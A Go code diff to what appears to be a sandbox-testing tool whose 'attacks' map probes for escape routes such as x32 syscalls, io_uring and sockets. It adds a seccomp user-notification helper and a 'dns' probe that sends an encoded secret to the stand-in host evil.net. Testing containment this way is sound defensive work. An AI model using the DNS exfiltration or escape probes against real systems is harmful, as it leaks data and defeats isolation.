@@ -7,8 +7,10 @@ import (
 	"runtime"
 	"strconv"
 	"syscall"
+	"time"
 	"unsafe"
 
+	"golang.org/x/net/bpf"
 	"golang.org/x/sys/unix"
 )
 
@@ -31,13 +33,7 @@ var attacks = map[string]func(args []string) error{
 		}
 		return errno
 	},
-	"x32": func([]string) error {
-		pid, _, errno := unix.RawSyscall(unix.SYS_GETPID|x32Bit, 0, 0, 0)
-		if errno == 0 && pid > 0 {
-			return nil
-		}
-		return errno
-	},
+	"x32": func([]string) error { return reaches(unix.SYS_GETPID | x32Bit) },
 	"io_uring": func([]string) error {
 		var params [120]byte
 		fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params)), 0)
@@ -116,6 +112,19 @@ var attacks = map[string]func(args []string) error{
 		if err == nil {
 			_, err = c.Write([]byte("x"))
 		}
+		return err
+	},
+	"dns": func(args []string) error {
+		c, err := net.Dial("udp", args[0])
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		if _, err := c.Write([]byte("c2VjcmV0.evil.net")); err != nil {
+			return err
+		}
+		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second)) // an answer comes at once
+		_, err = c.Read(make([]byte, 64))
 		return err
 	},
 	"unix": func(args []string) error {
@@ -211,6 +220,46 @@ func swapAttack(args []string) error {
 		}
 	}
 	return fmt.Errorf("nothing came through")
+}
+
+// reaches tells whether a call with this number gets past all filters of the sandbox,
+// on kernels that do not know it too: a filter of our own would be asked about it.
+func reaches(number uint32) error {
+	runtime.LockOSThread()
+	raw, err := bpf.Assemble([]bpf.Instruction{
+		bpf.LoadAbsolute{Off: offNumber, Size: 4}, bpf.JumpIf{Cond: bpf.JumpNotEqual, Val: number, SkipTrue: 1},
+		bpf.RetConstant{Val: unix.SECCOMP_RET_USER_NOTIF}, bpf.RetConstant{Val: unix.SECCOMP_RET_ALLOW},
+	})
+	if err != nil {
+		return err
+	}
+	program := make([]unix.SockFilter, len(raw))
+	for i, in := range raw {
+		program[i] = unix.SockFilter{Code: in.Op, Jt: in.Jt, Jf: in.Jf, K: in.K}
+	}
+	if err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); err != nil {
+		return err
+	}
+	fprog := unix.SockFprog{Len: uint16(len(program)), Filter: &program[0]}
+	listener, _, errno := unix.Syscall(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, unix.SECCOMP_FILTER_FLAG_NEW_LISTENER, uintptr(unsafe.Pointer(&fprog)))
+	if errno != 0 {
+		return errno
+	}
+	go func() {
+		var call [80]byte // struct seccomp_notif, which starts with its id
+		var answer struct {
+			id           uint64
+			value        int64
+			errno, flags int32
+		}
+		_, _, _ = unix.Syscall(unix.SYS_IOCTL, listener, unix.SECCOMP_IOCTL_NOTIF_RECV, uintptr(unsafe.Pointer(&call)))
+		answer.id, answer.value = *(*uint64)(unsafe.Pointer(&call)), 4711
+		_, _, _ = unix.Syscall(unix.SYS_IOCTL, listener, unix.SECCOMP_IOCTL_NOTIF_SEND, uintptr(unsafe.Pointer(&answer)))
+	}()
+	if got, _, errno := unix.Syscall(uintptr(number), 0, 0, 0); got != 4711 {
+		return errno
+	}
+	return nil
 }
 
 func socketOf(family, kind, protocol int) error {
